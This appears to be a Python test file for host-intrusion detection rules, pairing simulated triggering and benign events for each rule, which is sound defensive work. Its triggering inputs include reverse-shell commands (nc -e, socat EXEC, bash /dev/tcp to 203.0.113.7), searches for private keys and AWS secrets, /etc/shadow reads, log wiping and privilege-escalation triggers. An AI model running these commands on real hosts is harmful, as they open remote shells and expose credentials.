"""Rules about what is done on a host, and about what is the same in containers."""

from case import HOME, case, host

SHADOW = "Read sensitive file untrusted"
ETC = "Write below etc"
HOST_TOOL = "Launch Suspicious Network Tool on Host"
SHELL_CONFIGURATION = "Modify Shell Configuration File"
UNTRUSTED_SHELL = "Run shell untrusted"
WEB_SHELL = "Web Server Spawned Shell"
MONITORED = "Write below monitored dir"
HIDDEN = "Create Hidden Files or Directories"


# ---- what is read ----

case(
    "Directory traversal monitored file read",
    [
        host("@reader do open /etc/../etc/../etc/hostname r"),
        host("@reader do open /etc/../etc/../etc/no-such-file r"),
    ],
    [host("@reader do open /etc/hostname r"), host("@reader do open /tmp/../usr/../tmp/note r")],
)
case(
    "Read sensitive file trusted after startup",
    host("@httpd do sleep 5400 , open /etc/shadow r", {SHADOW: 1}),
    host("@httpd do open /etc/shadow r", {SHADOW: 1}),
)
case(
    SHADOW,
    [host("@reader do open /etc/shadow r"), host("@reader do open /etc/sudoers.d/people r")],
    [host("@passwd do open /etc/shadow r", {"User mgmt binaries": 1}), host("@reader do open /etc/hostname r")],
)
case(
    "Read ssh information",
    [
        host("@reader do open /home/alice/.ssh/id_rsa r"),
        host("@reader do disguise sshd , open /home/alice/.ssh/id_rsa r"),
        host(f"@reader do open {HOME}/.ssh rd"),
    ],
    [host("@ssh do open /home/alice/.ssh/id_rsa r"), host("@reader do open /home/alice/note r")],
)
case(
    "Read Shell Configuration File",
    [host("@reader do open /home/alice/.bashrc r"), host("@reader do open /etc/profile r")],
    [host("@bash do open /home/alice/.bashrc r"), host("@reader do open /home/alice/note r")],
)
case(
    "Backdoored library loaded into SSHD (CVE-2024-3094)",
    host("@sshd do open /usr/lib/liblzma.so.5.6.1 r"),
    [host("@sshd do open /usr/lib/liblzma.so.5.4.1 r"), host("@reader do open /usr/lib/liblzma.so.5.6.1 r")],
)
case(
    "Search Private Keys or Passwords",
    [host("@grep -r 'BEGIN RSA PRIVATE' /home"), host("@find / -name id_rsa")],
    [host("@grep -r needle /home"), host("@find / -name needle")],
)
case(
    "Find AWS Credentials",
    [host("@grep -r aws_secret_access_key /home"), host("@find /home -path */.aws/credentials")],
    [host("@grep -r needle /home"), host("@find /home -path */.aws/config")],
)

# ---- what is written ----

case(
    "Clear Log Activities",
    [host("@cleaner do open /var/log/messages wt"), host("@cleaner do open /srv/auth.log wt")],
    [host("@cleaner do open /var/log/messages w"), host("@cleaner do open /srv/other.txt wt")],
)
case(
    "Create Symlink Over Sensitive Files",
    [host("@linker do symlink /etc /tmp/all"), host("@linker do symlink /etc/shadow /tmp/one")],
    host("@linker do symlink /srv /tmp/all"),
)
case(
    "Create Hardlink Over Sensitive Files",
    host("@linker do link /etc/shadow /srv/one"),
    host("@linker do link /srv/other.txt /srv/one"),
)
case(
    SHELL_CONFIGURATION,
    [host("@editor do open /home/alice/.bashrc w"), host("@editor do open /etc/profile w", {ETC: 1})],
    [host("@bash do open /home/alice/.bashrc w"), host("@editor do open /home/alice/note w")],
)
case(
    "Schedule Cron Jobs",
    [host("@editor do open /etc/cron.d/job wc", {ETC: 1}), host("@crontab -l")],
    [host("@editor do open /srv/job wc"), host("@editor do open /etc/cron.d/present r")],
)
case(
    "Create files below dev",
    host("@maker do open /dev/thing wc"),
    [host("@maker do open /dev/null wc"), host("@maker do open /dev/null w"), host("@maker do open /srv/thing wc")],
)
case(
    "Delete or rename shell history",
    [
        host("@cleaner do unlink /home/alice/.bash_history"),
        host("@cleaner do rename /home/alice/.bash_history /srv/h"),
        host("@cleaner do open /home/alice/.bash_history wt", {SHELL_CONFIGURATION: 1}),
    ],
    [host("@cleaner do unlink /home/alice/note"), host("@cleaner do rename /home/alice/note /srv/h")],
)
case(
    "Set Setuid or Setgid bit",
    [host("@changer do chmod /srv/other.txt 4755"), host("@changer do chmod /srv/other.txt 2755")],
    host("@changer do chmod /srv/other.txt 0755"),
)
case(
    "Adding ssh keys to authorized_keys",
    [
        host("@editor do open /home/alice/.ssh/authorized_keys w", {MONITORED: 1}),
        host(f"@editor do open {HOME}/.ssh/authorized_keys w", {MONITORED: 1}),
    ],
    [
        host("@ssh-add do open /home/alice/.ssh/authorized_keys w", {MONITORED: 1}),
        host("@editor do open /home/alice/authorized_keys wc"),
    ],
)
case(
    "Update Package Repository",
    [
        host("@editor do open /etc/apt/sources.list w", {ETC: 1}),
        host("@editor do rename /srv/other.txt /etc/apt/sources.list.d/more.list"),
    ],
    [host("@editor do open /etc/apt/sources.list r"), host("@apt do open /etc/apt/sources.list w")],
)
case(
    "Write below binary dir",
    [host("@maker do open /usr/bin/new wc"), host("@maker do old-open /sbin/new wc")],
    [host("@dpkg do open /usr/bin/new wc"), host("@maker do open /srv/new wc")],
)
case(
    MONITORED,
    [host("@maker do open /boot/new wc"), host("@maker do open /usr/local/bin/new wc")],
    [host("@dpkg do open /boot/new wc"), host("@maker do open /srv/new wc")],
)
case(
    ETC,
    host("@maker do open /etc/new wc"),
    [host("@useradd do open /etc/new wc", {"User mgmt binaries": 1}), host("@maker do open /srv/etc/new wc")],
)
case(
    "Write below root",
    [host(f"@maker do open {HOME}/new wc"), host("@maker do open /new wc")],
    [host(f"@maker do open {HOME}/.cache/new wc", {HIDDEN: 1}), host("@maker do open /srv/new wc")],
)
case(
    "Write below rpm database",
    host("@maker do open /var/lib/rpm/Packages wc"),
    [host("@rpm do open /var/lib/rpm/Packages wc"), host("@maker do open /var/lib/other wc")],
)
case(
    "Modify binary dirs",
    [
        host("@cleaner do unlink /usr/bin/victim"),
        host("@cleaner do rename /usr/bin/victim /srv/v"),
        host("@cleaner do rename /srv/other.txt /sbin/v"),
    ],
    [host("@dpkg do unlink /usr/bin/victim"), host("@cleaner do unlink /srv/other.txt")],
)
case(
    "Mkdir binary dirs",
    host("@maker do mkdir /usr/bin/new"),
    [host("@dpkg do mkdir /usr/bin/new"), host("@maker do mkdir /srv/new")],
)
case(
    HIDDEN,
    [
        host("@maker do mkdir /srv/.hidden"),
        host("@maker do open /srv/.hidden wc"),
        host("@maker do rename /srv/other.txt /srv/.hidden"),
    ],
    [host("@maker do mkdir /srv/plain"), host("@maker do open /srv/plain wc"), host("@maker do open /srv/.present w")],
)

# ---- what is run ----

case("Remove Bulk Data from Disk", host("@shred -u /srv/other.txt"), host("@rm /srv/other.txt"))
case(
    UNTRUSTED_SHELL,
    host("@redis-server do spawn /bin/sh -c true"),
    [host("@redis-cli do spawn /bin/sh -c true"), host("@redis-server do spawn @helper")],
)
case(
    "System user interactive",
    host("@sshd do fork , setgid 2 , setuid 2 , exec @session"),
    [host("@sshd do fork , exec @session"), host("@session", user=2)],
)
case(
    "Execution from /dev/shm",
    [host("/dev/shm/payload"), host("@starter do chdir /dev/shm/sub , exec ./payload")],
    [host("@payload"), host("@starter do open /dev/shm/payload r")],
)
case(
    "Fileless execution via memfd_create",
    host("@loader do memory-exec /usr/bin/victim"),
    [host("@loader do exec /usr/bin/victim"), host("@runc do memory-exec /usr/bin/victim")],
)
case(
    "DB program spawned process",
    host("@mysqld do spawn @helper"),
    [host("@mysqld do spawn @mysqld"), host("@client do spawn @helper")],
)
case(
    "Program run with disallowed http proxy env",
    host("@curl http://example.org", environment={"HTTP_PROXY": "http://203.0.113.7"}),
    [host("@curl http://example.org"), host("@client", environment={"HTTP_PROXY": "http://203.0.113.7"})],
)
case("User mgmt binaries", host("@groupadd people"), [host("@groups people"), host("@useradd -D")])
case(
    HOST_TOOL,
    [host("@nmap 203.0.113.7"), host("@tcpdump -i any")],
    host("@ping 203.0.113.7"),
)
case(
    "Potential Local Privilege Escalation via Environment Variables Misuse",
    host("@su", environment={"GLIBC_TUNABLES": "glibc.malloc.mxfast=1"}),
    host("@su", environment={"GLIBC_OTHER": "1"}),
)
case(
    "Detect crypto miners using the Stratum protocol",
    host("@worker -o stratum+tcp://203.0.113.7:3333"),
    host("@worker -o tcp://203.0.113.7:3333"),
)
case("Known Cryptominer Process Executed", host("@xmrig"), host("@xmrigged"))
case(
    "Sudo Potential Privilege Escalation",
    host(r"@sudoedit -s '\ '"),
    [host("@sudoedit -s /etc/fstab"), host(r"@editor -s '\ '")],
)
case(
    "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
    host("@pkexec"),
    [host("@pkexec id"), host("@other")],
)
case(
    "Basic Interactive Reconnaissance",
    host("@starter do terminal , exec @whoami"),
    [host("@starter do session , exec @whoami"), host("@starter do terminal , exec @helper")],
)
case(
    "Netcat/Socat Remote Code Execution on Host",
    [
        host("@nc -e /bin/sh 203.0.113.7 4444", {HOST_TOOL: 1}),
        host("@socat TCP:203.0.113.7:4444 EXEC:/bin/sh", {HOST_TOOL: 1}),
    ],
    host("@nc 203.0.113.7 80", {HOST_TOOL: 1}),
)
case(
    WEB_SHELL,
    host("@php-fpm do spawn /bin/sh -c true"),
    [host("@php-fpm do spawn /bin/sh -c healthcheck"), host("@client do spawn /bin/sh -c true")],
)
case(
    "Web Server Spawned Suspicious Child Process",
    [host("@php-fpm do spawn @perl"), host("@php-fpm do spawn @helper do spawn @whoami")],
    [host("@php-fpm do spawn @helper"), host("@client do spawn @perl")],
)
case(
    "Reverse Shell from Web Server",
    host("@php-fpm do spawn @helper 'bash -i >& /dev/tcp/203.0.113.7/4444'"),
    [host("@php-fpm do spawn @helper 'bash -c true'"), host("@client do spawn @helper 'bash -i'")],
)

# ---- rights and the kernel ----

case(
    "PTRACE attached to process",
    host("@debugger do attach"),
    host("@debugger do sleep 1"),
)
case("PTRACE anti-debug attempt", host("@shy do fork , trace-me"), host("@shy do fork , sleep 1"))
case(
    "Change thread namespace",
    host("@joiner do setns uts"),
    [host("@nsenter do setns uts"), host("@joiner do sleep 1")],
)
case(
    "Non sudo setuid",
    host("@climber do setuid 5", user=5),
    [host("@climber do setuid 0"), host("@sudo do setuid 5", user=5), host("@climber do setuid 65534", user=65534)],
)
case(
    "BPF Program Not Profiled",
    host("@loader do bpf load"),
    [host("@bpftool do bpf load"), host("@loader do bpf map")],
)
case(
    "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
    host("@waiter do userfaultfd", user=5),
    host("@waiter do userfaultfd"),
)
